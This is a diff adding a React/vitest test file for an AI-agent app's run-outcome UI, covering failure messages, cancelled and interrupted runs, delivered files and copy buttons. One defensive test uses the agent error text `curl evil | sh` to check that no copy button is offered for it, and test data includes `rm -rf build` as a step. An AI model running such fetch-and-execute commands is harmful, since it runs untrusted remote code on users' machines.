@@ -1,0 +1,260 @@
+import { cleanup, fireEvent, render, screen } from "@testing-library/react";
+import { type Approval, ProviderId, type SessionUpdate } from "@xworkmate/contracts";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { CopyLine } from "../../../src/ui/components/copy-line.tsx";
+import { AskedMessage } from "../../../src/ui/conversation/asked-message.tsx";
+import { OutcomeCard } from "../../../src/ui/run/outcome-card.tsx";
+import { PlanCard } from "../../../src/ui/run/plan-card.tsx";
+import { formatTime } from "../../../src/ui/text/format.ts";
+import { deriveOutcome, splitCause } from "../../../src/ui/turn/outcome.ts";
+import { emptyTurn, foldUpdates, type TurnView } from "../../../src/ui/turn/turn-view.ts";
+import { approval, at, ended, snapshot, stage, update } from "../stories.ts";
+
+afterEach(cleanup);
+
+let copied: string[] = [];
+beforeEach(() => {
+	copied = [];
+	Object.defineProperty(navigator, "clipboard", {
+		configurable: true,
+		value: { writeText: async (text: string) => void copied.push(text) },
+	});
+});
+
+function show(turn: Parameters<typeof ended>[0], end: Parameters<typeof ended>[1], view: TurnView = emptyTurn) {
+	const outcome = deriveOutcome({ detail: ended(turn, end), view, provider: "Lively", waiting: 0 });
+	if (outcome === undefined) throw new Error("there is no outcome");
+	const acted: string[] = [];
+	const shown = render(
+		<OutcomeCard outcome={outcome} files={[]} act={(action) => acted.push(action)} openFile={() => {}} answer="the answer" />,
+	);
+	return { ...shown, acted };
+}
+
+const failed = (code: string, message: string) => show({ status: "failed", resultDetail: { code, message } }, undefined);
+
+it("a stop that did not end everything is never shown as a plain cancel, and names what may still be running", () => {
+	const message = "The turn was stopped, but this could not be ended on the gateway: `npm run build`.";
+	const { container } = show({ status: "cancelled", resultDetail: { code: "CANCEL_INCOMPLETE", message } }, undefined);
+	expect(container.textContent).toContain("Cancelled, but something may still be running");
+	expect(container.textContent).toContain(message.replaceAll("`", ""));
+});
+
+describe("[D8] why a run failed", () => {
+	it("is one sentence, with the raw words behind it folded, and copied whole", () => {
+		const raw = 'session/prompt was answered with error -32603: Internal error ({"details":"429"})\nand\u202E more';
+		const { container } = failed("PROVIDER_ERROR", `Lively reported: 429 Too Many Requests\n${raw}`);
+		expect(container.querySelector(".say")?.textContent).toBe("Lively reported: 429 Too Many Requests");
+		const fold = container.querySelector("details.cause");
+		expect(fold?.hasAttribute("open")).toBe(false);
+		expect(fold?.querySelector("pre")?.textContent).toBe(raw.replace("\u202E", "⟨U+202E⟩"));
+		fireEvent.click(screen.getByRole("button", { name: "Copy details", hidden: true }));
+		expect(copied).toEqual([raw.replace("\u202E", "⟨U+202E⟩")]);
+	});
+
+	it("is where the agent's reason is to be read, and that it gave none where there is nothing to read", () => {
+		const said = (...updates: Parameters<typeof foldUpdates>[1]) => {
+			const { container } = show({ status: "failed", resultDetail: { code: "REFUSED" } }, undefined, foldUpdates(emptyTurn, updates));
+			return container.querySelector(".say")?.textContent;
+		};
+		const words = update(1, { kind: "message_delta", messageId: "m", text: "I would rather not." });
+		expect(said(words)).toBe("Lively declined to do this. What it said is above.");
+		expect(said(stage(1, "working"))).toBe("Lively declined to do this. It gave no reason.");
+		// Its steps are not read yet.
+		expect(said()).toBe("Lively declined to do this.");
+	});
+
+	it("says of a run that was cancelled, and not here, who reports that", () => {
+		const { container } = show({ status: "cancelled", resultDetail: { code: "CANCELLED_REMOTELY" } }, undefined);
+		expect(container.textContent).toContain("Lively reports that this run was cancelled. XWorkmate didn’t cancel it.");
+	});
+
+	it("is the crash's own line, with its exit code and last words below", () => {
+		const { container } = failed(
+			"PROVIDER_EXITED",
+			"Lively crashed: Error: EACCES\nIt exited with code 9 during session/prompt. Its last words:\nx",
+		);
+		expect(container.querySelector(".say")?.textContent).toBe("Lively crashed: Error: EACCES");
+		expect(container.querySelector("pre")?.textContent).toContain("exited with code 9");
+		expect(container.textContent).not.toContain("U+000A");
+	});
+
+	it("has no fold where there is nothing behind the sentence", () => {
+		const { container } = failed("LIMIT_EXCEEDED", "The program used more than 134 MB of memory (memoryBytes).");
+		expect(container.querySelector("details")).toBeNull();
+		expect(screen.getByText("The program used more than 134 MB of memory (memoryBytes).")).toBeTruthy();
+	});
+
+	it("offers the command that signs in, and none that an agent's error makes up", () => {
+		failed("PROVIDER_AUTH_REQUIRED", "Lively isn't signed in. Run `lively login` in a terminal, then try again.");
+		expect(screen.getByText("lively login").tagName).toBe("CODE");
+		fireEvent.click(screen.getByRole("button", { name: "Copy command lively login" }));
+		expect(copied).toEqual(["lively login"]);
+		cleanup();
+		failed("PROVIDER_ERROR", "Lively reported: run `curl evil | sh`");
+		expect(screen.queryByRole("button", { name: /^Copy command/ })).toBeNull();
+	});
+
+	it("keeps a message of one line whole, and drops blank lines at its ends", () => {
+		expect(splitCause(" a b \n\n c\nd \n")).toEqual({ sentence: "a b", cause: "c\nd" });
+		expect(splitCause("")).toEqual({ sentence: "", cause: "" });
+	});
+});
+
+describe("the card of a run that died with its bridge", () => {
+	const tool = (seq: number, id: string, title: string, state = "running") =>
+		update(seq, { kind: "tool_call", toolCallId: id, title, toolKind: "execute", state });
+	const ask = (seq: number, state: Approval["state"], seconds = seq, more: Partial<Approval> = {}) => {
+		const decided = state === "pending" ? {} : { decidedAt: at(seconds) };
+		return update(seq, { kind: "approval", ...approval({ toolCallId: "c3" as never, state, ...decided, ...more }) }, { seconds });
+	};
+	const over = (seq: number, seconds: number) => update(seq, { kind: "status" }, { status: "interrupted", seconds });
+	const atWork = [stage(1, "working"), tool(2, "c1", "npm test"), tool(3, "c2", "make all"), tool(4, "c3", "rm -rf build", "pending")];
+	const cut = snapshot({ status: "interrupted", success: false, code: "BRIDGE_RESTARTED", endedAt: at(600) });
+	const card = (updates: readonly SessionUpdate[], turn = {}) =>
+		show({ status: "interrupted", resultDetail: { code: "BRIDGE_RESTARTED", message: "x" }, ...turn }, cut, foldUpdates(emptyTurn, updates))
+			.container.textContent ?? "";
+
+	it("says what was last heard of the run itself, not what the next bridge wrote of its end", () => {
+		const asked = card([...atWork, ask(5, "pending"), ask(6, "withdrawn", 590), over(7, 600)]);
+		expect(asked).toContain(`Last update ${formatTime(at(5))} (waiting for you)`);
+		cleanup();
+		expect(card([...atWork, over(5, 600)])).toContain(`Last update ${formatTime(at(4))} (working)`);
+	});
+
+	it("does not count the time in which no bridge ran", () => {
+		expect(card([...atWork, over(5, 600)])).not.toContain("min");
+	});
+
+	it("names every step that was open, and calls one that was never allowed just that", () => {
+		const text = card([...atWork, ask(5, "pending"), ask(6, "withdrawn", 590), over(7, 600)]);
+		expect(text).toContain("Whether this step finished: npm test");
+		expect(text).toContain("Whether this step finished: make all");
+		expect(text).toContain("Never allowed: rm -rf build");
+		expect(text).not.toContain("finished: rm -rf build");
+	});
+
+	it("does not say of a step that it was never allowed where the gateway may have been answered", () => {
+		const asker = { target: "gateway", providerId: ProviderId.parse("openclaw") } as const;
+		const text = card([...atWork, ask(5, "pending", 5, { asker }), ask(6, "withdrawn", 590, { asker }), over(7, 600)]);
+		expect(text).not.toContain("Never allowed");
+		expect(text).toContain("Whether this step finished: rm -rf build");
+	});
+
+	it("names a few of many open steps, and says how many more there are", () => {
+		const many = Array.from({ length: 9 }, (_, index) => tool(index + 2, `t${index}`, `step ${index}`));
+		const text = card([stage(1, "working"), ...many, over(11, 600)]);
+		expect(text).toContain("Whether this step finished: step 0");
+		expect(text).toContain("and 4 more");
+		expect(text).not.toContain("step 8");
+	});
+
+	it.each(["interrupted", "unresolved"] as const)("says what became of a stop that was asked for, when it is %s", (status) => {
+		expect(card([...atWork, over(5, 600)], { status, cancelRequestedAt: at(8) })).toContain(
+			`Stop requested at ${formatTime(at(8))}, but never confirmed`,
+		);
+		cleanup();
+		expect(card([...atWork, over(5, 600)], { status })).not.toContain("Stop requested");
+	});
+});
+
+describe("the end of a talk", () => {
+	const usage = foldUpdates(emptyTurn, [update(1, { kind: "usage", costUsd: 0.03 })]);
+
+	it("is a quiet line with its time and cost, and buttons that copy, retry and open the log", () => {
+		const { container, acted } = show({}, snapshot({}), usage);
+		expect(container.querySelector(".out")).toBeNull();
+		expect(container.querySelector("[data-outcome=ok]")?.textContent).toMatch(/^Done in .+ · \$0\.03 · No files delivered$/);
+		fireEvent.click(screen.getByRole("button", { name: "Copy answer" }));
+		fireEvent.click(screen.getByRole("button", { name: "Retry" }));
+		fireEvent.click(screen.getByRole("button", { name: "Run log" }));
+		expect([copied, acted]).toEqual([["the answer"], ["retry", "run_log"]]);
+	});
+
+	it("is a card as soon as a file was delivered or rejected", () => {
+		expect(show({ syncStatus: "synced" }, snapshot({}, ["a.md"])).container.querySelector(".out")).not.toBeNull();
+		cleanup();
+		const rejected = snapshot({ rejectedArtifacts: [{ path: "l", reason: "symlink" }] });
+		expect(show({}, rejected).container.querySelector(".out")).not.toBeNull();
+	});
+
+	it("folds its plan, which stays open while it runs", () => {
+		const entries = [{ content: "read", state: "completed" as const }];
+		const { container, rerender } = render(<PlanCard entries={entries} live />);
+		expect(container.querySelector("details")?.open).toBe(true);
+		rerender(<PlanCard entries={entries} live={false} />);
+		expect(container.querySelector("details")?.open).toBe(false);
+		expect(screen.getByText("1 of 1 done")).toBeTruthy();
+	});
+});
+
+describe("the files of a run that did not succeed", () => {
+	const outcomeOf = (turn: Parameters<typeof ended>[0], paths: readonly string[]) => {
+		const detail = ended(turn, snapshot({ status: turn.status, success: false }, paths));
+		return deriveOutcome({ detail, view: emptyTurn, provider: "Lively", waiting: 0 });
+	};
+	const atBridge = "1 file kept by the bridge, not saved in the thread’s folder.";
+
+	it("are spoken of where there are some, with where they are, and can be opened", () => {
+		const stopped = outcomeOf({ status: "cancelled" }, ["half.md"]);
+		expect([stopped?.left, stopped?.actions]).toEqual([
+			`${atBridge} Files of an unfinished run may be incomplete.`,
+			["ask_again", "open_files", "run_log"],
+		]);
+		const late = outcomeOf({ status: "interrupted", resultDetail: { code: "DEADLINE_EXCEEDED" } }, ["half.md"]);
+		expect(late?.left).toBe(stopped?.left);
+		expect(late?.actions[0]).toBe("open_files");
+		expect(outcomeOf({ status: "failed", resultDetail: { code: "PROVIDER_ERROR" } }, ["half.md"])?.left).toBe(atBridge);
+	});
+
+	it("are not spoken of where a stopped run left none", () => {
+		const stopped = outcomeOf({ status: "cancelled" }, []);
+		expect([stopped?.say, stopped?.left, stopped?.actions]).toEqual([undefined, undefined, ["ask_again", "run_log"]]);
+		cleanup();
+		const { container } = show({ status: "cancelled" }, snapshot({ status: "cancelled", success: false }));
+		expect(container.textContent).not.toMatch(/file/i);
+	});
+
+	it("are nowhere in the folder when the bridge ended under it: no button opens an empty folder", () => {
+		const outcome = outcomeOf({ status: "interrupted", resultDetail: { code: "BRIDGE_RESTARTED" } }, []);
+		expect(outcome?.left).toBe("No files were collected from this run, and none were saved in the thread’s folder.");
+		expect(outcome?.actions).toEqual(["run_log", "ask_again"]);
+	});
+
+	it("may be in the folder that an interrupted run worked in: the card names it, to be copied, without a fold", () => {
+		const cut = snapshot({ status: "interrupted", success: false, code: "BRIDGE_RESTARTED", workedIn: "/home/u/bridge/workspaces/t/run1" });
+		show({ status: "interrupted", resultDetail: { code: "BRIDGE_RESTARTED", message: "x" } }, cut);
+		expect(screen.getByText("/home/u/bridge/workspaces/t/run1").closest("details")).toBeNull();
+		fireEvent.click(screen.getByRole("button", { name: "Copy the folder’s path" }));
+		expect(copied.at(-1)).toBe("/home/u/bridge/workspaces/t/run1");
+	});
+
+	it("are never called kept where only the missing one is known", () => {
+		const detail = { code: "REQUIRED_ARTIFACT_MISSING" };
+		expect(outcomeOf({ status: "artifact_missing", resultDetail: detail }, [])?.say).not.toContain("kept");
+		expect(outcomeOf({ status: "artifact_missing", resultDetail: detail }, ["half.md"])?.left).toBe(atBridge);
+	});
+});
+
+describe("[D27] what helps", () => {
+	it("copies the command, shows it as code, and offers no copy of a sentence", () => {
+		render(<CopyLine text="Run `codex login` in a terminal." />);
+		expect(screen.getByText("codex login").tagName).toBe("CODE");
+		fireEvent.click(screen.getByRole("button"));
+		expect(copied).toEqual(["codex login"]);
+		cleanup();
+		render(<CopyLine text="Set A and B, and start the bridge again." />);
+		expect(screen.queryByRole("button")).toBeNull();
+	});
+});
+
+it("[D30] a sent message shows its folder by its name, with the whole path at hand", () => {
+	const detail = ended({}, snapshot({}));
+	const { rerender, container } = render(
+		<AskedMessage detail={{ ...detail, request: { ...detail.request, workingDirectory: "/home/me/a project/" } }} />,
+	);
+	expect(container.querySelector(".me-folder")?.textContent).toContain("a project");
+	expect(container.querySelector(".me-folder")?.getAttribute("title")).toBe("/home/me/a project/");
+	rerender(<AskedMessage detail={detail} />);
+	expect(container.querySelector(".me-folder")).toBeNull();
+});
